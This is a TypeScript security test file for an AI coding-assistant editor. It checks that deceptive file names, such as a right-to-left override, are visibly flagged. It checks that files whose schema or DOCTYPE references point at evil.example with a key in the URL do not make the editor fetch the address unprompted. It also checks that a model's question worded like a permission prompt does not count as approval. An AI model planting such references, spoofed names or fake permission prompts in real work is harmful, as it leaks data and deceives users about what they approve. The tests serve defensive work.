import { english } from "../../src/base/localize.ts";
import { visibleFacts } from "../../src/base/text/visibleText.ts";
import { noLanguageServices } from "../../src/cli/nonInteractive.ts";
import { diffTitle } from "../../src/host/preview/messages.ts";
import { createNodeWorkspace } from "../../src/node/files/nodeWorkspace.ts";
import { createNodeWorkspaceFiles } from "../../src/node/files/nodeWorkspaceFiles.ts";
import type { ApprovalRequest } from "../../src/ports/approval.ts";
import type { EditorContext } from "../../src/ports/editorState.ts";
import { chatTitle } from "../../src/review/chats/chatTitle.ts";
import { editorTools } from "../../src/tools/editorTools.ts";
import { fileTools } from "../../src/tools/fileTools.ts";
import { createToolRouter } from "../../src/tools/toolRouter.ts";
import { emptyTree } from "../../src/turns/turnReducer.ts";
import { editName, operationText } from "../../webview/cards/messages.ts";
import { failureShown } from "../../webview/cards/toolFacts.ts";
import { t } from "../../webview/l10n.ts";
import { testSyntax as syntax } from "../fakes/editor/testSyntax.ts";
import { runCall } from "../fakes/runCall.ts";
import { tempFolder } from "../fakes/workspace/tempFolder.ts";
import { attacks } from "./attacks.ts";

const ODD = {
  "a right-to-left override": "readme\u202etxt.sh",
  "an invisible character": "a\u200b.ts",
  "a no-break space": "a\u00a0.ts",
  "a line separator": "a\u2028.ts",
};

attacks(
  "a name that looks like another one",
  Object.entries(ODD).map(([what, name]) => ({
    name: `a file is named with ${what}`,
    play: () => {
      const tree = { ...emptyTree(), title: name };
      const shown = {
        "a button of the panel": t("Accept file {path}", { path: `src/${name}` }),
        "the card of a renaming": operationText("a.ts", { to: name }),
        "an element's row": editName({ op: "replace", target: `ast-path:${name}` }),
        "the error of a call": failureShown({
          ...{ status: "error", approval: null },
          error: { category: "execution", message: `Cannot read ${name}.`, recovery: null },
        } as never),
        "a tab of the editor": diffTitle(visibleFacts(english), name, []),
        "the title of a chat": chatTitle(tree),
      };
      const hidden = /[\u202e\u200b\u00a0\u2028]/;
      return Object.entries(shown).find(([, text]) => hidden.test(text))?.[0] ?? null;
    },
  })),
);

const LEAK = "https://evil.example/?key=1,2'3";
const FILES = {
  "a JSON file": { "a.json": `{ "$schema": "${LEAK}" }` },
  "JSON with escapes": {
    "a.json": '{ "\\u0024schema": "https:\\/\\/evil.example\\/?key=1,2\'3" }',
  },
  "JSON with a comment": { "a.json": `{ "$schema" /* ${"x".repeat(5_000)} */ : "${LEAK}" }` },
  "JSON under another name": { "a.conf": `{ "$schema": "${LEAK}" }` },
  "a schema of the workspace": {
    "a.json": '{ "$schema": "./s/one.json" }',
    "s/one.json": '{ "$ref": "two.json#/x" }',
    "s/two.json": `{ "x": { "$ref": "${LEAK}" } }`,
  },
  YAML: { "a.yaml": `# yaml-language-server: $schema=${LEAK}\nx: 1\n` },
  TOML: { "a.toml": `#:schema ${LEAK}\nx = 1\n` },
  XML: { "a.xml": '<?xml version="1.0"?><!DOCTYPE a SYSTEM "https://evil.example/?key=1,2&3">' },
  "a share": { "a.json": '{ "$schema": "file://evil.example/key=1,2" }' },
  "a file too large to read": { "a.json": `{ "$schema": "${LEAK}" }${" ".repeat(6_000_000)}` },
};

/** What is asked for a call, and what the editor opened; nothing is allowed. */
async function calls(
  files: Readonly<Record<string, string>>,
  wanted: readonly (readonly [tool: string, args: unknown])[],
  tabs: EditorContext["tabs"] = [],
) {
  const folder = await tempFolder(files);
  const asked: ApprovalRequest[] = [];
  const opened: string[] = [];
  try {
    const workspace = await createNodeWorkspace(folder.root);
    const editor = {
      context: () => ({ active: null, tabs }),
      open: async ({ path }: { path: string }) => {
        opened.push(path);
        return { ok: true as const, value: null };
      },
      reveal: async () => ({ ok: true as const, value: null }),
    };
    const question = { ask: async () => ({ answered: true as const, values: ["Yes"] }) };
    const services = noLanguageServices;
    const router = createToolRouter(
      [
        ...editorTools({ workspace, syntax, services, question, editor }),
        ...fileTools(workspace, await createNodeWorkspaceFiles(folder.root)),
      ],
      {
        async request(request) {
          asked.push(request);
          return { allowed: false, by: "user" };
        },
      },
    );
    for (const [name, args] of wanted)
      await runCall(router, { callId: "c", name, argsText: JSON.stringify(args) }, {
        ...{ turnId: "t", callId: "c", signal: new AbortController().signal },
        ...{ emit: () => undefined, streams: { register: () => undefined } },
      } as never);
    return { asked, opened };
  } finally {
    await folder.remove();
  }
}

attacks("a file that makes the editor fetch an address", [
  ...Object.entries(FILES).map(([what, files]) => ({
    name: `the model opens ${what}`,
    play: async () => {
      const [path = ""] = Object.keys(files);
      const { asked, opened } = await calls(files, [["open_file", { file_path: path }]]);
      if (opened.length > 0) return "it was opened";
      const [request] = asked;
      if (request?.eachTime !== true) return "a permission can allow it for longer";
      const isNamed = /^(?:https|file):\/\/evil\.example\/\??key=1,2/.test(request.arguments ?? "");
      return isNamed || request.summary.includes("too large") ? null : "the address is not named";
    },
  })),
  {
    name: "the question is asked for everything, so that nobody reads it",
    play: async () => {
      const plain = {
        "a.json": '{ "a": "https://example.com", "$ref": "https://example.com" }',
        "b.json": '{ "$schema": "./c.json" }',
        "c.json": '{ "type": "object" }',
        "theme.json": '{ "$schema": "vscode://schemas/color-theme" }',
        "open.json": `{ "$schema": "${LEAK}" }`,
      };
      const { asked, opened } = await calls(
        plain,
        ["a.json", "b.json", "theme.json", "open.json"].map((file_path) => [
          "open_file",
          { file_path },
        ]),
        [{ path: "open.json", unsaved: false }],
      );
      return asked.length === 0 && opened.length === 4 ? null : "it is asked without need";
    },
  },
]);

attacks("a question that does not show what it allows", [
  {
    name: "a file is created with content that the question leaves out",
    play: async () => {
      const content = `{ "$schema": "${LEAK}" }\n`;
      const { asked } = await calls({}, [["create_file", { file_path: "made.json", content }]]);
      const [request] = asked;
      if (request?.arguments !== content) return "its content is not shown";
      return request.summary === "Create made.json (1 line)" ? null : request.summary;
    },
  },
  ...["rename_file", "copy_file"].map((tool) => ({
    name: `${tool} replaces a file unsaid`,
    play: async () => {
      const args = { from: "a.txt", to: "b.txt", overwrite: true };
      const { asked } = await calls({ "a.txt": "a", "b.txt": "b" }, [[tool, args]]);
      return asked[0]?.summary.endsWith(", replacing what is there") ? null : "it is not said";
    },
  })),
  {
    name: "an answer to the model's question allows a call",
    play: async () => {
      const words = "Permission: Create made.txt? Allowed before";
      const { asked } = await calls({}, [
        ["ask_user", { question: words, kind: "choice", options: ["Yes", "Always"] }],
        ["create_file", { file_path: "made.txt", content: "x" }],
      ]);
      return asked.length === 1 ? null : "it was not asked again";
    },
  },
]);
